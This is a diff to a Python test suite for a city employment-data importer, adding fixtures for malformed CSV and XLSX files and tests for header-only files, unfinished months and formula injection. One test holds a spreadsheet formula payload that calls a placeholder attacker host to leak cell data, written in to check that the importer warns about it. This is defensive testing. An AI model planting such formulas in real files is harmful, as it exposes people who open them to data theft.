@@ -11,6 +11,7 @@ import json
 import shutil
 import uuid
 from collections.abc import Iterator
+from datetime import date
 from pathlib import Path
 
 import numpy as np
@@ -228,6 +229,7 @@ def _xlsx(rows: list[list[object]], merge: str | None = None) -> bytes:
 
 EVENTS = (DATA / "employment_events.csv").read_text(encoding="utf-8")
 TARGET_HEAD = "年份,区划代码,指标代码,目标值\n"
+TRAILING_HEAD = b"year,area_code,district_code,indicator_code,target_value\n"
 
 
 def _events_with(line: str) -> bytes:
@@ -441,7 +443,146 @@ BAD_CASES = {
         "event_date",
         "is not a valid date",
     ),  # fmt: skip
+    # Malformed shapes (issue #18): each refused with a row message, never a traceback.
+    "trailing_comma": (
+        [("t.csv", TRAILING_HEAD + b"2026,420102,420102,urban_new_employment,50,\n")],
+        1,
+        "t.csv",
+        2,
+        None,
+        "ends with an extra separator (comma): it has 6 columns but the header has 5",
+    ),
+    "trailing_comma_crlf_bom_gbk": (
+        [
+            (
+                "targets_x.csv",
+                b"\xef\xbb\xbf"
+                + TRAILING_HEAD.replace(b"\n", b"\r\n")
+                + b"2026,420102,420102,urban_new_employment,50,\r\n",
+            ),
+            ("targets_gbk.csv", (TARGET_HEAD + "2027,420103,skills_training,100,\n").encode("gbk")),
+        ],
+        1,
+        "targets_gbk.csv",
+        2,
+        None,
+        "it has 5 columns but the header has 4",
+    ),  # fmt: skip
+    "trailing_commas_on_some_rows": (
+        [("t.csv", TRAILING_HEAD + b"2027,420103,,skills_training,100\n2027,420102,,skills_training,50,,\n")],
+        1,
+        "t.csv",
+        3,
+        None,
+        "it has 7 columns but the header has 5",
+    ),
+    "extra_value": (
+        [("t.csv", TRAILING_HEAD + b"2027,420103,,skills_training,100,note\n")],
+        1,
+        "t.csv",
+        2,
+        None,
+        "This row has 6 columns but the header has 5",
+    ),
+    "fewer_fields": (
+        [("t.csv", TRAILING_HEAD + b"2027,420103,420103,skills_training\n")],
+        1,
+        "t.csv",
+        2,
+        None,
+        "only 4 of 5 columns",
+    ),
+    "unnamed_extra_column": (
+        [("t.csv", TRAILING_HEAD.replace(b"\n", b",\n") + b"2027,420103,,skills_training,100,note\n")],
+        1,
+        "t.csv",
+        1,
+        "#6",
+        "has data but no header",
+    ),
+    "unnamed_extra_column_xlsx": (
+        [
+            (
+                "targets_x.xlsx",
+                _xlsx(
+                    [
+                        ["year", "area_code", "indicator_code", "target_value"],
+                        [2027, "420103", "skills_training", 100, "note"],
+                    ]
+                ),
+            )
+        ],
+        1,
+        "targets_x.xlsx",
+        1,
+        "E",
+        "has data but no header",
+    ),  # fmt: skip
+    "no_header": (
+        [("targets_x.csv", b",,,\n2027,420103,skills_training,100\n")],
+        2,
+        "targets_x.csv",
+        1,
+        None,
+        "No header found",
+    ),
+    "only_separators": (
+        [("t.csv", b",,,,\r\n,,,,\r\n")],
+        2,
+        "t.csv",
+        None,
+        None,
+        "The file is empty",
+    ),
 }
+
+
+def test_a_header_only_file_loads_nothing_and_says_so(city_url: str) -> None:
+    before = checksums(city_url)
+    for data in (TRAILING_HEAD, b"\xef\xbb\xbf" + TRAILING_HEAD.rstrip(b"\n")):
+        report = run(city_url, [("t.csv", data)])
+        assert report.exit_code == 0 and report.written == 0
+        assert _find(report.problems, "t.csv", None, None, "no data rows under the header").level == "warning"
+    assert checksums(city_url) == before
+
+
+def test_the_current_month_is_refused_until_it_has_ended(city_url: str) -> None:
+    """A month can be reported once it is over: on 15 April, March loads and April (and May) are refused."""
+    head = b"year,month,area_code,indicator_code,value\n"
+    current = head + b"2026,4,420103,urban_new_employment,5\n2026,5,420103,urban_new_employment,5\n"
+    before = checksums(city_url)
+    report = run(city_url, [("reported_monthly_x.csv", current)], today=date(2026, 4, 15))
+    assert report.exit_code == 1
+    p = _find(report.problems, "reported_monthly_x.csv", 2, "month", "is the current month and has not ended")
+    assert "2026-05-01" in p.message("en") and "2026-05-01" in p.message("zh")
+    _find(report.problems, "reported_monthly_x.csv", 3, "month", "has not ended yet")
+    assert checksums(city_url) == before
+    ended = head + b"2026,3,420103,urban_new_employment,5\n"
+    assert (
+        run(city_url, [("reported_monthly_x.csv", ended)], today=date(2026, 4, 1), dry_run=True).exit_code
+        == 0
+    )
+    # and with the real clock: this month is refused today
+    today = date.today()
+    now = f"{today.year},{today.month},420103,urban_new_employment,5\n".encode()
+    report = run(city_url, [("reported_monthly_x.csv", head + now)], dry_run=True)
+    _find(report.problems, "reported_monthly_x.csv", 2, "month", "is the current month")
+
+
+def test_a_name_that_would_run_as_a_formula_is_loaded_with_a_warning(city_url: str) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    areas = (
+        "area_code,level,parent_code,name_zh,name_en\n"
+        f'420103002,street,420103,"{hostile.replace(chr(34), chr(34) * 2)}",-Street\n'
+        "420103003,street,420103,@SUM(A1),Plain\n"
+    ).encode()
+    report = run(city_url, [("areas_new.csv", areas)])
+    assert report.exit_code == 0, [p.message("en") for p in report.problems]
+    warned = [p for p in report.problems if p.key == "import_formula_text"]
+    assert {(p.row, p.column) for p in warned} == {(2, "name_zh"), (2, "name_en"), (3, "name_zh")}
+    assert all(p.level == "warning" for p in warned) and "single quote" in warned[0].message("en")
+    got = frame(city_url, select(s.area.c.name_zh).where(s.area.c.area_code == "420103002"))
+    assert got["name_zh"].tolist() == [hostile]  # stored as written; exports neutralise it
 
 
 def _find(problems: list[Problem], file: str, row: int | None, column: str | None, phrase: str) -> Problem:
